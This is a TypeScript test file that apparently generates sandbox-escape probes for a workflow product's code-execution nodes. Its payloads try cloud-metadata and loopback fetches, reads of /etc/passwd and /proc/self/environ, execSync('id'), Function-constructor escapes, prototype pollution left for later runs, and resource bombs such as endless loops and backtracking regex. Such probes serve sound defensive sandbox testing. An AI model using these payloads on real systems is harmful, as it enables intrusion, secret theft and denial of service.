import type { Sink } from '../../sink.ts';
import type { Payload } from './payload.ts';

interface Targets {
  sink: Sink;
  /** Address of the product itself. */
  product: string;
}

type Line = readonly [about: string, code: string];

/** Code that answers with what an expression reached; refused is nothing. */
const probe = (expression: string, reached = 'value'): string => `
const value = await (async () => { try { return ${expression} } catch { return undefined } })();
let r = null;
try { r = (${reached}) === undefined || (${reached}) === null || (${reached}) === false ? null : String(${reached}).slice(0, 200) } catch (e) { r = null }
return [{ json: { r } }]`;

const within = (ms: number, promise: string): string =>
  `await Promise.race([${promise}, new Promise((done) => setTimeout(() => done(null), ${ms}))])`;

function network({ sink, product }: Targets): Line[] {
  const host = `127.0.0.1:${sink.port}`;
  const urls = [
    sink.url,
    `${product}/health`,
    `http://localhost:${sink.port}/`,
    `http://0.0.0.0:${sink.port}/`,
    `http://[::1]:${sink.port}/`,
    `http://[::ffff:127.0.0.1]:${sink.port}/`,
    `http://2130706433:${sink.port}/`,
    `http://0x7f000001:${sink.port}/`,
    `http://127.1:${sink.port}/`,
    'http://169.254.169.254/latest/meta-data/',
    'http://metadata.google.internal/',
    'https://example.com/',
    'http://host-worker/',
    'http://executor/',
  ];
  return [
    ...urls.map((url): Line => [
      `fetch of ${url.replace(/\d{5}/, 'PORT')}`,
      probe(`(await fetch(${JSON.stringify(url)})).status`),
    ]),
    ['fetch of a data URL', probe('(await fetch("data:text/plain,x")).status', 'value === 200 ? null : value')],
    ['fetch of a file URL', probe('(await fetch("file:///etc/passwd")).status')],
    [
      'fetch through a Request',
      probe(`(await fetch(new Request("${sink.url}", { method: "POST", body: "x" }))).status`),
    ],
    ['fetch found on self', probe(`(await self.fetch("${sink.url}")).status`)],
    ['fetch through a constructor', probe(`(await (() => 0).constructor("return fetch('${sink.url}')")()).status`)],
    [
      'WebSocket',
      probe(
        within(
          400,
          `new Promise((done) => { const s = new WebSocket("ws://${host}/"); s.addEventListener("open", () => done("open")) })`,
        ),
      ),
    ],
    [
      'EventSource',
      probe(
        within(
          400,
          `new Promise((done) => { const s = new EventSource("${sink.url}"); s.onopen = () => done("open"); s.onmessage = done })`,
        ),
      ),
    ],
    [
      'cloudflare:sockets',
      probe(within(400, `(await import("cloudflare:sockets")).connect("${host}").opened.then(() => "open")`)),
    ],
    [
      'cloudflare:sockets to the name server',
      probe(within(400, '(await import("cloudflare:sockets")).connect("8.8.8.8:53").opened.then(() => "open")')),
    ],
    [
      'node:net',
      probe(
        within(
          400,
          `new Promise((done) => process.getBuiltinModule("node:net").connect(${sink.port}, "127.0.0.1", () => done("open")).on("error", () => done(null)))`,
        ),
      ),
    ],
    [
      'node:net by import',
      probe(
        within(
          400,
          `import("node:net").then((net) => new Promise((done) => net.connect(${sink.port}, "127.0.0.1", () => done("open")).on("error", () => done(null))))`,
        ),
      ),
    ],
    [
      'node:tls',
      probe(
        within(
          400,
          `import("node:tls").then((tls) => new Promise((done) => tls.connect(${sink.port}, "127.0.0.1", () => done("open")).on("error", () => done(null))))`,
        ),
      ),
    ],
    [
      'node:http',
      probe(
        within(
          400,
          `import("node:http").then((http) => new Promise((done) => http.get("${sink.url}", () => done("open")).on("error", () => done(null))))`,
        ),
      ),
    ],
    [
      'node:https',
      probe(
        within(
          400,
          `import("node:https").then((https) => new Promise((done) => https.get("https://${host}", () => done("open")).on("error", () => done(null))))`,
        ),
      ),
    ],
    [
      'node:dns',
      probe(
        within(
          400,
          'import("node:dns/promises").then((dns) => dns.lookup("localhost")).then((found) => found.address)',
        ),
      ),
    ],
    [
      'node:dns resolve',
      probe(
        within(400, 'import("node:dns/promises").then((dns) => dns.resolve("example.com")).then((found) => found[0])'),
      ),
    ],
    [
      'node:dgram',
      probe(
        '(async () => { const { createSocket } = await import("node:dgram"); const socket = createSocket("udp4"); return await Promise.race([new Promise((done) => socket.bind(0, () => done("bound to " + socket.address().port))), new Promise((done) => setTimeout(() => done(null), 300))]) })()',
      ),
    ],
    ['sendBeacon', probe(`navigator.sendBeacon("${sink.url}")`, 'value === true ? null : value')],
    ['importScripts', probe(`importScripts("${sink.url}")`)],
    ['import of a URL', probe(`await import("${sink.url}/x.js")`)],
    [
      'the shared cache',
      probe(
        '(await caches.default.match("https://example.com/")) ?? typeof caches.default',
        'value === "undefined" ? null : value',
      ),
    ],
    ['Response.redirect followed', probe(`(await fetch(Response.redirect("${sink.url}"))).status`)],
  ];
}

const HOST: Line[] = [
  ['environment variables', probe('Object.keys(process.env).join()', 'value === "" ? null : value')],
  [
    'environment of node:process',
    probe('Object.keys((await import("node:process")).env).join()', 'value === "" ? null : value'),
  ],
  [
    'environment of cloudflare:workers',
    probe('Object.keys((await import("cloudflare:workers")).env).join()', 'value === "" ? null : value'),
  ],
  [
    'exports of cloudflare:workers',
    probe(
      'Object.keys((await import("cloudflare:workers")).exports).filter((name) => name !== "default").join()',
      'value === "" ? null : value',
    ),
  ],
  [
    'own entrypoint called from inside',
    probe(
      '(await import("cloudflare:workers")).exports?.default?.fetch && "callable"',
      'typeof value === "function" ? value : null',
    ),
  ],
  [
    'environment by withEnv',
    probe(
      '(await import("cloudflare:workers")).withEnv({ X: 1 }, () => Object.keys((globalThis.env ?? {})).join())',
      'value === "" ? null : value',
    ),
  ],
  ['environment of this', probe('this.env && Object.keys(this.env).join()', 'value === "" ? null : value')],
  ['context of this', probe('this.ctx && Object.keys(this.ctx).join()', 'value === "" ? null : value')],
  ['$env of the workflow', probe('$env.PATH ?? $env.HOME ?? $env.DEPLOYMENT_KEY')],
  ['password file', probe('(await import("node:fs")).readFileSync("/etc/passwd", "utf8")')],
  ['password file by promises', probe('await (await import("node:fs/promises")).readFile("/etc/passwd", "utf8")')],
  ['password file by getBuiltinModule', probe('process.getBuiltinModule("fs").readFileSync("/etc/passwd", "utf8")')],
  ['environment of the process file', probe('(await import("node:fs")).readFileSync("/proc/self/environ", "utf8")')],
  ['memory of the process', probe('(await import("node:fs")).readFileSync("/proc/self/maps", "utf8")')],
  [
    'folder above the bundle',
    probe(
      '(await import("node:fs")).readdirSync("/").filter((name) => !["bundle", "tmp", "dev"].includes(name)).join()',
      'value === "" ? null : value',
    ),
  ],
  ['state of the product', probe('(await import("node:fs")).readdirSync("/data").join()')],
  [
    'a file written where others look',
    probe('((await import("node:fs")).writeFileSync("/bundle/main.js", "x"), "written")'),
  ],
  [
    'a link out of the folder',
    probe(
      '(() => { const fs = process.getBuiltinModule("fs"); fs.symlinkSync("/etc/passwd", "/tmp/x"); return fs.readFileSync("/tmp/x", "utf8") })()',
    ),
  ],
  ['require of fs', probe('require("fs").readFileSync("/etc/passwd", "utf8")')],
  ['require of child_process', probe('require("child_process").execSync("id").toString()')],
  ['require with a path', probe('require("../../../etc/passwd")')],
  ['require of __proto__', probe('require("__proto__")')],
  ['require of the loader', probe('require("module")._load("fs").readFileSync("/etc/passwd", "utf8")')],
  ['require through its constructor', probe(`require.constructor("return 'ran-' + 1337 * 7331")()`)],
  ['execSync', probe('(await import("node:child_process")).execSync("id").toString()')],
  [
    'spawn',
    probe(
      within(
        400,
        'import("node:child_process").then((child) => new Promise((done) => child.spawn("id").stdout.on("data", (text) => done(String(text)))))',
      ),
    ),
  ],
  ['worker threads', probe('new (await import("node:worker_threads")).Worker("1", { eval: true }) && "started"')],
  ['cluster', probe('(await import("node:cluster")).fork() && "forked"')],
  ['inspector', probe('((await import("node:inspector")).open(0), (await import("node:inspector")).url())')],
  ['process.binding', probe('process.binding("spawn_sync") && "bound"')],
  ['process._linkedBinding', probe('process._linkedBinding("fs") && "bound"')],
  ['process.dlopen', probe('process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6") ?? "loaded"')],
  ['process.kill', probe('process.kill(1, 0)')],
  ['process.exit', probe('typeof process.exit === "function" && false')],
  ['process.mainModule', probe('process.mainModule.require("fs") && "reached"')],
  ['host name', probe('require("os").hostname()')],
  [
    'user of the host',
    probe(
      '(await import("node:os")).userInfo().username',
      'value === "nobody" || value === "user" || value === "" ? null : value',
    ),
  ],
  [
    'network interfaces of the host',
    probe('Object.keys((await import("node:os")).networkInterfaces()).join()', 'value === "" ? null : value'),
  ],
  ['V8 flags', probe('(await import("node:v8")).setFlagsFromString("--allow-natives-syntax") ?? "set"', 'null')],
  ['natives syntax', probe('(0, eval)("%DebugPrint(1)")')],
  ['loader binding', probe('env.LOADER && "loader"')],
  [
    'stack of the host',
    probe(
      'new Error("x").stack.split("\\n").filter((line) => !/code\\.cjs|run\\.js|main\\.js|scope\\.js|cloudflare-internal|node-internal|^Error|processTicks|^\\s+at async|anonymous/.test(line)).join()',
      'value === "" ? null : value',
    ),
  ],
  [
    'call sites of the host',
    probe(
      '(() => { Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis()).filter(Boolean); return new Error().stack.length })()',
      'value === 0 || value > 0 ? null : value',
    ),
  ],
];

const GENERATED: Line[] = [
  ['eval', probe('eval("\'ran-\' + 1337 * 7331")')],
  ['indirect eval', probe('(0, eval)("\'ran-\' + 1337 * 7331")')],
  ['eval through globalThis', probe('globalThis["ev" + "al"]("\'ran-\' + 1337 * 7331")')],
  ['Function', probe('Function("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of a literal', probe('"".constructor.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of an item', probe('$json.constructor.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of a helper', probe('$input.all.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of console', probe('console.log.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of luxon', probe('DateTime.now.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['Function by way of $()', probe('$.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['async Function', probe('await (async () => 0).constructor("return \'ran-\' + 1337 * 7331")()')],
  ['generator Function', probe('(function* () {}).constructor("yield \'ran-\' + 1337 * 7331")().next().value')],
  [
    'async generator Function',
    probe('(await (async function* () {}).constructor("yield \'ran-\' + 1337 * 7331")().next()).value'),
  ],
  ['Function by Reflect', probe('Reflect.construct(Function, ["return \'ran-\' + 1337 * 7331"])()')],
  ['class that extends Function', probe('new (class extends Function {})("return \'ran-\' + 1337 * 7331")()')],
  ['Function.prototype.constructor', probe('Function.prototype.constructor("return \'ran-\' + 1337 * 7331")()')],
  [
    'setTimeout with a text',
    probe(
      within(100, 'new Promise((done) => { globalThis.done = done; setTimeout("done(\'ran-\' + 1337 * 7331)", 1) })'),
    ),
  ],
  ['import of a data URL', probe('(await import("data:text/javascript,export default 1")).default')],
  [
    'import of a blob',
    probe('(await import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))).default'),
  ],
  ['node:vm', probe('(await import("node:vm")).runInThisContext("\'ran-\' + 1337 * 7331")')],
  ['node:vm script', probe('new (await import("node:vm")).Script("1").runInNewContext()')],
  [
    'node:module compile',
    probe('new (await import("node:module")).Module("x")._compile("module.exports = 1", "x") ?? "compiled"'),
  ],
  [
    'WebAssembly from bytes',
    probe('(await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))) && "compiled"'),
  ],
  ['WebAssembly module', probe('new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && "compiled"')],
  ['ShadowRealm', probe('new ShadowRealm().evaluate("1 + 1")')],
  [
    'AsyncFunction from a stack frame',
    probe(
      'Object.getPrototypeOf(async function () {}).constructor("return \'ran-\' + 1337 * 7331")()',
      'typeof value === "string" ? value : null',
    ),
  ],
  ['assert.throws that evaluates', probe('require("assert").strict.constructor("return \'ran-\' + 1337 * 7331")()')],
  ['util.promisify of a constructor', probe('await require("util").promisify(Function)("return 1")')],
];

/** Left behind for whoever runs next: looked for by `after`, in other code and in the same code again. */
const TRACES: Line[] = [
  ['a global left by other code', probe('globalThis.__attack')],
  ['a prototype changed by other code', probe('({}).__attack')],
  ['a list method changed by other code', probe('[1].map((x) => x)[0] === 1 ? null : "changed"')],
  ['JSON changed by other code', probe('JSON.stringify({ a: 1 }) === \'{"a":1}\' ? null : "changed"')],
  ['a module changed by other code', probe('require("crypto").__attack ?? require("util").__attack')],
  ['luxon changed by other code', probe('DateTime.prototype.__attack ?? luxon.Settings.defaultZone.__attack')],
  ['a file left by other code', probe('(await import("node:fs")).readFileSync("/tmp/attack", "utf8")')],
  [
    'static data of another workflow',
    probe('Object.keys($getWorkflowStaticData("global")).join()', 'value === "" ? null : value'),
  ],
];

const LEAVE = `globalThis.__attack = 'left'; Object.prototype.__attack = 'left'; Array.prototype.map = () => ['left']; JSON.stringify = () => '{}';
try { require('crypto').__attack = 'left'; require('util').__attack = 'left'; DateTime.prototype.__attack = 'left' } catch {}
try { (await import('node:fs')).writeFileSync('/tmp/attack', 'left') } catch {}`;

const LIMITS: Line[] = [
  ['a hundred megabytes of output', 'return [{ json: { r: "x".repeat(100 * 1024 * 1024) } }]'],
  ['recursion without end', 'const f = () => f() + 1; return [{ json: { r: f() } }]'],
  ['a text beyond the limit', 'return [{ json: { r: "x".repeat(2 ** 30) } }]'],
  ['a list beyond the limit', 'return [{ json: { r: new Array(2 ** 32).fill(0) } }]'],
  ['an object inside itself', 'const o = {}; o.o = o; return [{ json: { r: o } }]'],
  ['a promise that never settles', 'await new Promise(() => {}); return [{ json: { r: 1 } }]'],
  ['a BigInt as output', 'return [{ json: { r: 1n } }]'],
  ['a getter that throws', 'return [{ json: { get r() { throw new Error("x") } } }]'],
  ['a toJSON that throws', 'return [{ json: { r: { toJSON() { throw null } } } }]'],
  ['thrown null', 'throw null'],
  ['thrown proxy', 'throw new Proxy({}, { get() { throw 1 } })'],
  ['a symbol as the answer', 'return Symbol("x")'],
  ['a closing brace', '} ; return [{ json: { r: 1 } }]; {'],
  ['an unclosed comment', '/* return'],
  ['an unclosed template', 'return `'],
  ['an import statement', 'import fs from "node:fs"'],
  ['an export statement', 'export default 1'],
  ['abort of the isolate', '(await import("cloudflare:workers")).abortIsolate("bye"); return [{ json: { r: 1 } }]'],
  ['nesting of a hundred thousand', 'let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return [{ json: { r: a } }]'],
  ['a hundred thousand levels of JSON', 'return [{ json: { r: JSON.parse("[".repeat(1e5) + "]".repeat(1e5)) } }]'],
];

const slug = (text: string): string =>
  text
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');
const made = (family: string, lines: readonly Line[], more: Partial<Payload> = {}): Payload[] =>
  lines.map(([about, code]) => ({ id: `A1/code-${family}/${slug(about)}`, about, code, ...more }));

/** Bodies of Code nodes; in the order in which they must run. */
export function codePayloads(targets: Targets): Payload[] {
  return [
    ...made('network', network(targets)),
    ...made('host', HOST),
    ...made('generated', GENERATED),
    // Other code in an isolate of its own may break what it likes; the reader comes after it.
    {
      id: 'A1/code-trace/sabotage',
      about: 'everything broken by one script',
      code: `${LEAVE} return [{ json: { r: null } }]`,
    },
    ...made('trace', TRACES),
    ...made('limit', LIMITS, { isBomb: true }),
  ];
}

/** Each holds its thread until somebody ends it. */
export function slowCodePayloads(): Payload[] {
  return made(
    'never-yields',
    [
      ['an endless loop', 'for (;;) {}'],
      ['microtasks without end', 'for (;;) await null;'],
      ['memory without end', 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));'],
      ['a regular expression that backtracks', 'return [{ json: { r: /^(a+)+$/.test("a".repeat(40) + "!") } }]'],
    ],
    { isBomb: true },
  );
}
